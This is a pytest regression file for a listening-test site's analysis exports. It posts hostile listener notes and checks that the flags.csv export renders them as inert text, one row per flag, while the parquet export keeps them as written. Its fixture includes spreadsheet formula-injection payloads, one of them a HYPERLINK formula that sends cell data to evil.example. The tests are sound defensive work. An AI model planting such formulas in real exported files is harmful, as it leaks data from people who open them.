"""Issue 14 finding 5: listener flag notes went verbatim into flags.csv — formulas ran in a spreadsheet, and a bare
CR in a note was written unquoted and read back by pandas as a forged row."""

import csv
import io
import json

import pandas as pd
import pyarrow.parquet as pq
import pytest

from evalsite.analysis import exports
from evalsite.listening import services
from evalsite.listening.models import ArtifactFlag
from tests.factories import listening_world, make_listening_test

pytestmark = pytest.mark.django_db

NOTES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1+1",
    "=1\n=2",
    "a fine note",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def post_json(client, url, body):
    return client.post(
        url,
        json.dumps(body),
        content_type="application/json",
        HTTP_X_CSRFTOKEN=client.cookies["csrftoken"].value,
    )


@pytest.fixture
def flagged(client):
    """A published MUSHRA test and one listener who flags a sound once per hostile note, through the JSON endpoint."""
    world = listening_world(n_items=2)
    test = services.listening_test_publish(
        test=make_listening_test(
            name="csv-injection", kind="mushra", checkpoints=world["checkpoints"], seed=1, training_items=0
        )
    )
    client.get(f"/l/i/{test.invite_token}/")
    joined = client.post(
        f"/l/i/{test.invite_token}/", {"csrfmiddlewaretoken": client.cookies["csrftoken"].value}
    )
    session_url = joined["Location"]
    trial = client.get(session_url + "state").json()["trials"][0]
    for k, note in enumerate(NOTES):
        response = post_json(
            client,
            session_url + "flag",
            {
                "trial": trial["id"],
                "stimulus": trial["stimuli"][0]["id"],
                "start": 0.1,
                "end": 0.2 + 0.01 * k,
                "category": "click",
                "note": note,
                "request_id": f"note-{k}",
            },
        )
        assert response.status_code == 201, response.content
    assert ArtifactFlag.objects.count() == len(NOTES)
    return test


def test_hostile_flag_notes_come_out_of_the_csv_export_as_inert_text_one_row_per_flag(flagged, admin_client):
    response = admin_client.get(f"/analysis/tests/{flagged.pk}/export/flags.csv")
    assert response.status_code == 200

    by_pandas = pd.read_csv(io.BytesIO(response.content), keep_default_na=False)
    by_csv = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert len(by_pandas) == len(by_csv) == len(NOTES)
    for rows in (by_pandas.to_dict("records"), by_csv):
        for row in rows:
            for column, cell in row.items():
                assert not (isinstance(cell, str) and cell.startswith(FORMULA_STARTS)), (column, cell)
        assert sorted(row["note"] for row in rows) == sorted(
            "'" + n if n.startswith(FORMULA_STARTS) else n for n in NOTES
        )


def test_the_parquet_export_keeps_the_notes_as_written(flagged, admin_client):
    response = admin_client.get(f"/analysis/tests/{flagged.pk}/export/flags.parquet")
    frame = pq.read_table(io.BytesIO(response.content)).to_pandas()
    assert sorted(frame["note"]) == sorted(NOTES)


def test_only_text_cells_are_neutralised_so_negative_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "label": ["-3 dB", "ok", None],
            "cmos": [-1.5, 2.0, -3.0],
            "step": pd.array([-1, 2, None], dtype="Int64"),
        }
    )
    back = pd.read_csv(io.BytesIO(exports.csv_bytes(frame)))
    assert list(back["label"].fillna("")) == ["'-3 dB", "ok", ""]
    assert list(back["cmos"]) == [-1.5, 2.0, -3.0] and back["cmos"].dtype == float
    assert list(back["step"].iloc[:2]) == [-1, 2]
